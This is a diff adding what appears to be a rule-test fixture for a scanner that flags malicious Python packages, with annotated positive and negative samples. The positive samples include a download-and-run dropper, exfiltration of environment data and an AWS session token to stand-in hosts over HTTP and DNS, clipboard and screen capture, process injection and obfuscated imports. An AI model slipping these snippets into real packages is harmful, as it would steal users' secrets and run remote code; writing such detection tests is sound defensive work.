@@ -1,0 +1,98 @@
+import os, subprocess, requests, urllib.request, platform, pyperclip
+from setuptools import setup
+from setuptools.command.install import install
+
+
+def dropper():
+    data = urllib.request.urlopen("http://198.51.100.7/payload").read()
+    with open("/tmp/upd", "wb") as f:
+        f.write(data)
+    # ruleid: package.py.download-and-run
+    os.chmod("/tmp/upd", 0o755)
+    # ruleid: package.py.download-and-run
+    subprocess.call("/tmp/upd")
+    # ok: package.py.download-and-run
+    subprocess.run(["git", "--version"])
+
+
+def beacon():
+    # ruleid: package.py.env-to-network
+    requests.post("https://collector.example/c", data={"u": os.getenv("USERNAME"), "h": platform.node()})
+    # ok: package.py.env-to-network
+    requests.get("https://api.example.com/v1/items", timeout=5)
+
+
+def wallet():
+    # ruleid: package.py.clipboard
+    text = pyperclip.paste()
+    # ok: package.py.clipboard
+    text = "copy and paste"
+    return text
+
+
+def spy():
+    from PIL import ImageGrab
+    # ruleid: package.py.screen-or-keys
+    img = ImageGrab.grab()
+    # ok: package.py.screen-or-keys
+    img = open_image("logo.png")
+    return img
+
+
+def hidden():
+    # ruleid: package.py.hidden-process
+    subprocess.Popen(["helper.exe"], creationflags=subprocess.CREATE_NO_WINDOW)
+    # ok: package.py.hidden-process
+    subprocess.run(["make"], check=True)
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+
+
+setup(
+    name="demo",
+    # ruleid: package.py.install-command-override
+    cmdclass={"install": PostInstall},
+    # ok: package.py.install-command-override
+    entry_points={"console_scripts": ["demo=demo:main"]},
+)
+
+
+def inject(pid, dll):
+    # ruleid: package.py.process-injection
+    addr = kernel32.VirtualAllocEx(pid, 0, len(dll), 0x3000, 0x40)
+    # ok: package.py.process-injection
+    addr = allocate(len(dll))
+    return addr
+
+
+def stego():
+    from stegano import lsb
+    # ruleid: package.py.steganography
+    exec(lsb.reveal("cat.png"))
+    # ok: package.py.steganography
+    print(reveal_answer("quiz"))
+
+
+def dns_leak():
+    import socket
+    token = os.getenv("AWS_SESSION_TOKEN")
+    # ruleid: package.py.dns-exfiltration
+    socket.gethostbyname(f"{token}.collector.example")
+    # ok: package.py.dns-exfiltration
+    socket.gethostbyname("pypi.org")
+
+
+def reflect():
+    # ruleid: package.py.reflective-exec
+    vars(__builtins__)["eval"]("print(1)")
+    # ok: package.py.reflective-exec
+    print(vars(config)["name"])
+
+
+# ruleid: package.py.obfuscated
+OOO0O0OOOOO000oOo = __import__("\x7a\x6c\x69\x62")
+# ok: package.py.obfuscated
+ZLIB = __import__("zlib")
